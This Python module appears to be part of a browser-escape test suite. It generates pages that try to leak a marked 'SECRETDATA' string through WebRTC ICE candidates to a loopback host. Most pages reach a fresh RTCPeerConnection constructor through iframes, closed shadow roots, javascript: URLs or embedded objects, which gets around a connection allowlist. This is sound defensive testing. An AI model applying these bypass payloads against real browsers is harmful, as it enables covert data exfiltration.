"""Calls between browsers (WebRTC), which no request is: a page names the other end itself, and sends it what it likes.

The other end stands in the candidate of an offer (RFC 8839, 5.1), and the page's words in the name of the session, of
which each probe of the other end carries up to 256 letters. `Connection-Allowlist` asks of servers only.
"""

from __future__ import annotations

from escapes.browser.page import PageAttempt as Page

_HEAD = r"""<script>
window.UDP = 'udp 2122260223 127.0.0.1 @PORT@ typ host';
window.TCP = 'tcp 1518280447 127.0.0.1 @PORT@ typ host tcptype passive';
window.SRFLX = 'udp 1686052607 127.0.0.1 @PORT@ typ srflx raddr 0.0.0.0 rport 0';
window.kept = [];
window.reach = async (Call, candidate, late) => {
  const call = new Call();
  kept.push(call);
  const line = 'candidate:1 1 ' + candidate;
  const sdp = ['v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
    'c=IN IP4 127.0.0.1', 'a=ice-ufrag:SECRETDATA' + 'Q'.repeat(200), 'a=ice-pwd:abcdefghijklmnopqrstuvwx',
    'a=fingerprint:sha-256 ' + Array(32).fill('AA').join(':'), 'a=setup:actpass', 'a=mid:0', 'a=sctp-port:5000',
    ...(late ? [] : ['a=' + line]), ''].join('\r\n');
  await call.setRemoteDescription({type: 'offer', sdp});
  await call.setLocalDescription(await call.createAnswer());
  if (late) await call.addIceCandidate({candidate: line, sdpMid: '0', sdpMLineIndex: 0});
};
</script>"""
_INSIDE = "<script>parent.reach(RTCPeerConnection, parent.UDP)</script>"
_QUOTED = _INSIDE.replace("<", "&lt;").replace("/", "/")
_FRAME = "const f = document.createElement('iframe'); f.name = 'fresh'; document.body.append(f); "
_FIRST = "reach(window[0].RTCPeerConnection, UDP)"


def call(name: str, click: str = "", *, head: str = "", body: str = "") -> Page:
    """Return a page that makes a call; its scripts know `reach`, which makes one of a constructor and a candidate."""
    # Firefox makes no call to loopback, so that no listener tells: `escapes.browser.held` asks the page.
    return Page(name=f"a call {name}", head=_HEAD + head, body=body, click=click, decisive=True, chromium_only=True)


CALLS = (
    call("to a candidate by UDP", "await reach(RTCPeerConnection, UDP)"),
    call("to a candidate by TCP", "await reach(RTCPeerConnection, TCP)"),
    call("to a candidate beyond a server", "await reach(RTCPeerConnection, SRFLX)"),
    call("to a candidate that is added", "await reach(RTCPeerConnection, UDP, true)"),
    call("to a candidate by an old name", "await reach(webkitRTCPeerConnection, UDP)"),
    call("by a constructor that was put back", "try { delete window.RTCPeerConnection } catch {} "
          "window.RTCPeerConnection ??= webkitRTCPeerConnection; await reach(RTCPeerConnection, UDP)"),
    call("from a frame's window", _FRAME + "await reach(f.contentWindow.RTCPeerConnection, UDP)"),
    call("from a frame's document", _FRAME + "await reach(f.contentDocument.defaultView.RTCPeerConnection, UDP)"),
    call("from the first window", _FRAME + f"await {_FIRST}"),
    call("from a named window", _FRAME + "await reach(frames['fresh'].RTCPeerConnection, UDP)"),
    call("from a frame's text", _FRAME + f"f.srcdoc = `{_INSIDE.replace('</', '<' + chr(92) + '/')}`"),
    call("from a frame that is written", "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); " + _FIRST),  # noqa: E501 - a page as one text
    call("from a frame as it loads", "document.body.append(Object.assign(document.createElement('iframe'), {onload: () => "  # noqa: E501 - a page as one text
          f"{_FIRST}}}))"),
    call("from a frame of the page", body=f"<iframe></iframe><script>{_FIRST}</script>"),
    call("from a frame of the page as it loads", body=f'<iframe onload="{_FIRST}"></iframe>'),
    call("from a frame of the page with text", body=f'<iframe srcdoc="{_QUOTED}"></iframe>'),
    call("from a frame of the page as a drawing loads", body=f'<iframe></iframe><svg onload="{_FIRST}"></svg>'),
    call("from a frame in a closed tree of the page",
          body=f'<div><template shadowrootmode="closed"><iframe srcdoc="{_QUOTED}"></iframe></template></div>'),
    call("from a frame beside a script", "const d = document.createElement('div'); d.append(document.createElement("
          f"'iframe'), Object.assign(document.createElement('script'), {{text: '{_FIRST}'}})); document.body.append(d)"),  # noqa: E501 - a page as one text
    call("from a frame beside an element of the page's own", "customElements.define('x-y', class extends HTMLElement "
          f"{{ connectedCallback() {{ {_FIRST} }} }}); const d = document.createElement('div'); d.append(document."
          "createElement('iframe'), document.createElement('x-y')); document.body.append(d)"),
    call("from a frame in a tree closed by a frame", _FRAME + "const d = document.createElement('div'); "
          "document.body.append(d); const g = document.createElement('iframe'); g.srcdoc = "
          f"`{_INSIDE.replace('</', '<' + chr(92) + '/')}`; "
          "window[0].Element.prototype.attachShadow.call(d, {mode: 'closed'}).append(g)"),
    call("from an empty frame in a tree closed by a frame", _FRAME + "const w = window[0]; const d = document.createElement("  # noqa: E501 - a page as one text
          "'div'); document.body.append(d); const g = w.document.createElement('iframe'); w.Element.prototype.attachShadow"  # noqa: E501 - a page as one text
          ".call(d, {mode: 'closed'}).append(g); const get = Object.getOwnPropertyDescriptor(w.HTMLIFrameElement.prototype,"  # noqa: E501 - a page as one text
          " 'contentWindow').get; await new Promise(r => setTimeout(r, 300)); "
          "await reach(get.call(g).RTCPeerConnection, UDP)"),
    call("from a script's address in a closed tree of the page",
          body='<div><template shadowrootmode="closed"><iframe src="javascript:parent.reach(RTCPeerConnection,parent.UDP)">'  # noqa: E501 - a page as one text
          '</iframe></template></div>'),
    call("from a window found by name in a closed tree of the page", "await reach(open('', 'fresh').RTCPeerConnection, UDP)",  # noqa: E501 - a page as one text
          body='<div><template shadowrootmode="closed"><iframe name="fresh"></iframe></template></div>'),
    call("from a link into a closed tree of the page", "document.getElementById('in').click()",
          body='<div><template shadowrootmode="closed"><iframe name="fresh"></iframe></template></div><a id="in" '
          'target="fresh" href="javascript:parent.reach(RTCPeerConnection,parent.UDP)">x</a>'),
    call("from a clone of a closed tree of the page", "document.body.append(document.getElementById('t').content"
          ".cloneNode(true)); await reach(open('', 'fresh').RTCPeerConnection, UDP)",
          body='<template id="t"><div><template shadowrootmode="closed" shadowrootclonable><iframe name="fresh"></iframe>'  # noqa: E501 - a page as one text
          '</template></div></template>'),
    call("from an object", "const o = document.createElement('object'); o.data = 'about:blank'; document.body.append(o); "  # noqa: E501 - a page as one text
          f"await new Promise(r => setTimeout(r, 300)); await {_FIRST}"),
    call("from an embedded page", "const o = document.createElement('embed'); o.src = 'about:blank'; o.type = "
          f"'text/html'; document.body.append(o); await new Promise(r => setTimeout(r, 300)); await {_FIRST}"),
)  # fmt: skip
